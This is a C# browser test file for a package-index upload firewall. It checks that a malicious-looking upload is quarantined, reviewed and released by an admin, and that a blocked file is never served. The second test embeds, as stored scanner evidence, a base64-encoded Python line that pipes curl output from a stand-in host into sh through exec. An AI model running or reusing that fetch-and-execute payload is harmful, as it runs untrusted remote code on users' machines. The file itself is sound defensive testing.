using Moat.Packaging.Distributions;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Microsoft.Playwright;
using Moat.Index;
using Moat.Testing;

namespace Moat.Web.Tests;

/// <summary>A server whose upload gate quarantines what it judges malicious (policy <c>malicious = "quarantine"</c>) rather than refusing it.</summary>
public sealed class QuarantiningFixture : WebFixture
{
    protected override IndexOptions Configure(IndexOptions options) => options with { OnMalicious = GatePolicyAction.Quarantine };
}

/// <summary>The review of an UPLOAD the gate quarantined, through the browser: queue, findings, release with a reason, then pip's page.</summary>
public sealed class HostedQuarantineTests(QuarantiningFixture web) : IClassFixture<QuarantiningFixture>, IDisposable
{
    private readonly DirectoryInfo _packed = Directory.CreateTempSubdirectory("moat-web-hosted-");

    [Fact]
    public async Task A_users_malicious_looking_upload_waits_in_the_admins_queue_with_its_findings_and_once_released_is_on_the_simple_page()
    {
        // mallory: verified e-mail, TOTP, a token for the project (what upload needs), through the JSON API the pages share.
        await using var user = await web.NewSessionAsync();
        await user.SignUpAndInAsync("mallory", totp: true);
        var link = AccountFlows.VerificationLink(web.Server, "mallory");
        var (status, body) = await user.ApiAsync("POST", "/_/account/verify-email", new { token = link[(link.IndexOf("token=", StringComparison.Ordinal) + 6)..] });
        Assert.True(status == 200, $"verify: {status} {body}");

        // A defanged cryptominer (base64 pool address, example.net hosts), uploaded with mallory's token: the gate quarantines it.
        var (project, version, filename, content) = FixturePacker.PackCorpusSample("malicious", "m093-miner-obfuscated-pool", _packed.FullName);
        (status, body) = await user.ApiAsync("POST", "/_/account/tokens", new { description = "laptop", projects = new[] { project } });
        Assert.True(status == 201, $"token: {status} {body}");
        // A new name is a claim an administrator grants first ([policy] new-projects = "approved", the default).
        Assert.True((await web.Server.Admin.GrantClaimAsync(project, "mallory", "mallory's project")).Ok);
        using var http = new HttpClient { BaseAddress = new Uri(web.Server.Url) };
        using (var request = new HttpRequestMessage(HttpMethod.Post, "/legacy/") { Content = TestDistributions.UploadForm(project, version, filename, content, wheel: false) })
        {
            request.Headers.Authorization = new AuthenticationHeaderValue("Basic",
                Convert.ToBase64String(Encoding.UTF8.GetBytes("__token__:" + body.GetProperty("token").GetString())));
            using var upload = await http.SendAsync(request);
            Assert.Equal(HttpStatusCode.OK, upload.StatusCode);
        }
        Assert.DoesNotContain(filename, await http.GetStringAsync($"/simple/{project}/"));

        // The uploader sees neither the queue nor the held file on the project page.
        await user.GoAsync("/firewall", status: 403);
        await user.GoAsync($"/firewall/uploads/{filename}", status: 403);
        await user.GoAsync($"/projects/{project}");
        Assert.DoesNotContain(filename, await user.Page.Locator("main").InnerTextAsync());

        await using var browser = await web.NewSessionAsync();
        await browser.SignInAsAdminAsync();
        await browser.GoAsync("/firewall");
        var row = browser.Page.Locator("section[aria-labelledby=queue-heading] tbody tr", new() { HasText = filename });
        Assert.Equal(1, await row.CountAsync());
        Assert.Equal("uploaded by token of mallory (laptop)", (await row.Locator("td").Nth(2).InnerTextAsync()).Trim());
        Assert.Equal("malicious", await row.Locator(".badge").First.InnerTextAsync());
        Assert.Contains("MOAT-CODE", await row.Locator("td").Nth(4).InnerTextAsync());
        await browser.ScreenshotAsync("firewall-uploaded");

        // Admins see the held file on the project page, with its state and the way to its review.
        await browser.GoAsync($"/projects/{project}");
        var held = browser.Page.Locator("tr", new() { HasText = filename });
        Assert.Equal("quarantined", await held.Locator(".badge-bad").First.InnerTextAsync());
        await browser.Page.ClickAndWaitForUrlAsync(held.GetByRole(AriaRole.Link, new() { Name = "review" }), $"**/firewall/uploads/{filename}");
        Assert.Equal($"Review {filename} · Moat", await browser.Page.TitleAsync());
        Assert.Contains("by token of mallory (laptop)", await browser.Page.Locator("dl.card").InnerTextAsync());
        Assert.True(await browser.Page.Locator("ul.findings > li").CountAsync() >= 1);
        var evidence = string.Join("\n", await browser.Page.Locator("pre.evidence").AllInnerTextsAsync());
        Assert.Contains("example.net", evidence);
        Assert.Empty(await AccountFlows.UnlabelledControlsAsync(browser.Page));
        await browser.ScreenshotAsync("firewall-upload-review");

        await browser.Page.GetByLabel("Reason for releasing").FillAsync("Reviewed: the pool address is the test fixture's");
        await browser.Page.ClickAndWaitForUrlAsync(browser.Page.GetByRole(AriaRole.Button, new() { Name = "Release" }), "**/firewall");
        Assert.Contains("Released " + filename, await browser.Page.Locator(".notice-ok").InnerTextAsync());
        Assert.Equal(0, await browser.Page.Locator("section[aria-labelledby=queue-heading] tbody tr", new() { HasText = filename }).CountAsync());
        browser.AssertClean();

        // pip's page lists it now, and the download is the uploaded bytes.
        var page = await http.GetStringAsync($"/simple/{project}/");
        Assert.Contains(filename, page);
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(content));
        Assert.Equal(content, await http.GetByteArrayAsync($"/files/{sha}/{filename}"));
        var admin = await web.Server.Accounts.UserByNameAsync(WebServer.AdminName);
        var released = Assert.Single(await web.Server.Accounts.EventsAsync(null, project, 100), e => e.Kind == "firewall:release");
        Assert.Equal(admin!.Id, released.UserId);
        var details = JsonDocument.Parse(released.Details!).RootElement;
        Assert.Equal("admin", details.GetProperty("by").GetString());
        Assert.Contains("test fixture", details.GetProperty("reason").GetString());
    }

    [Fact]
    public async Task A_blocked_uploads_page_decodes_its_evidence_offers_no_release_and_the_project_page_shows_it_blocked_to_admins()
    {
        // As stored after an admin blocked it: the gate's finding quotes a base64 payload handed to exec (defanged: example.invalid).
        var payload = Convert.ToBase64String(Encoding.UTF8.GetBytes("import os; os.system('curl -s https://example.invalid/stage2 | sh')"));
        var sha = new string('b', 64);
        var file = new Moat.Index.Storage.FileRecord("blocked_demo-1.0.tar.gz", "blocked-demo", "1.0", PackageType.Sdist, "source", null, sha, null, "00", 2048,
            DateTimeOffset.UtcNow, null, false, null, Moat.Index.Storage.FileState.Blocked, "steals CI tokens", null, null);
        await web.Server.Store.AddFileAsync(file, "blocked-demo");
        await web.Server.Store.SaveVerdictAsync(new Moat.Index.Storage.StoredVerdict(sha, file.Filename, "quarantine", "malicious", 0.97,
            JsonSerializer.Serialize(new[] { new { rule = "MOAT-CODE-001", severity = "critical", message = "exec of a decoded blob", path = "setup.py", line = 3, evidence = $"exec(base64.b64decode(\"{payload}\"))" } }),
            "judged malicious", DateTimeOffset.UtcNow));

        await using var browser = await web.NewSessionAsync();
        await browser.SignInAsAdminAsync();
        await browser.GoAsync("/firewall");
        var row = browser.Page.Locator("section[aria-labelledby=queue-heading] tbody tr", new() { HasText = file.Filename });
        Assert.Contains("blocked by an admin", await row.InnerTextAsync());

        await browser.GoAsync("/firewall/uploads/" + file.Filename);
        Assert.Contains("example.invalid/stage2", await browser.Page.Locator("pre[aria-label='Decoded evidence for MOAT-CODE-001']").InnerTextAsync());
        Assert.Equal(0, await browser.Page.GetByRole(AriaRole.Button, new() { Name = "Release" }).CountAsync()); // a block is final
        Assert.Contains("never served", await browser.Page.Locator("main").InnerTextAsync());

        await browser.GoAsync("/projects/blocked-demo");
        Assert.Equal("blocked", await browser.Page.Locator("tr", new() { HasText = file.Filename }).Locator(".badge-bad").First.InnerTextAsync());
        browser.AssertClean();

        // Nobody else learns of it: anonymous gets a login redirect, the file route a 403 with the reason.
        using var http = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = new Uri(web.Server.Url) };
        Assert.Equal(HttpStatusCode.Redirect, (await http.GetAsync("/firewall/uploads/" + file.Filename)).StatusCode);
        using var download = await http.GetAsync($"/files/{sha}/{file.Filename}");
        Assert.Equal(HttpStatusCode.Forbidden, download.StatusCode);
        Assert.Contains("steals CI tokens", download.ReasonPhrase);
    }

    public void Dispose() => _packed.Delete(recursive: true);
}
